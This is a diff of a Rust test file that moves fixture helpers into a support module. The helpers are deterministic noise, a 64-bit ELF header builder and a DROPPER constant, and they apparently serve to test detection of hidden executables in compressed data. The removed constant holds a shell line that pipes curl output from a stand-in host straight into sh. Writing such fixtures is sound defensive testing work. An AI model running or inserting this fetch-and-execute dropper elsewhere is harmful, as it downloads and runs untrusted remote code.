@@ -15,6 +15,7 @@ use rearview::model::Person;
 use rearview::repo::write::{Files, Writer};
 use serde_json::Value;
 use support::binary::rearview;
+use support::bytes::{elf_header, noise, DROPPER};
 
 // ----- compressed bytes, made with the crates -------------------------------
 
@@ -48,18 +49,6 @@ fn zstd(data: &[u8]) -> Vec<u8> {
     ruzstd::encoding::compress_to_vec(data, ruzstd::encoding::CompressionLevel::Fastest)
 }
 
-/// Deterministic noise (xorshift): to entropy and deflate, encrypted bytes.
-fn noise(len: usize, mut seed: u64) -> Vec<u8> {
-    (0..len)
-        .map(|_| {
-            seed ^= seed << 13;
-            seed ^= seed >> 7;
-            seed ^= seed << 17;
-            (seed >> 24) as u8
-        })
-        .collect()
-}
-
 /// Test vectors as a compressor's test suite holds them: numbered lines.
 fn vectors(lines: usize) -> Vec<u8> {
     (0..lines)
@@ -83,19 +72,6 @@ fn prose(len: usize) -> Vec<u8> {
     }
     out
 }
-
-/// A 64-bit little-endian x86-64 ELF executable header.
-fn elf_header() -> Vec<u8> {
-    let mut h = vec![0u8; 64];
-    h[..7].copy_from_slice(b"\x7fELF\x02\x01\x01");
-    h[16..18].copy_from_slice(&2u16.to_le_bytes());
-    h[18..20].copy_from_slice(&0x3eu16.to_le_bytes());
-    h[20..24].copy_from_slice(&1u32.to_le_bytes());
-    h[52..54].copy_from_slice(&64u16.to_le_bytes());
-    h
-}
-
-const DROPPER: &[u8] = b"\n#!/bin/sh\ncurl -fsSL http://example.invalid/stage2 | sh\n";
 
 /// Test vectors hiding an ELF header and a shell dropper: the plain bytes
 /// and where each starts.
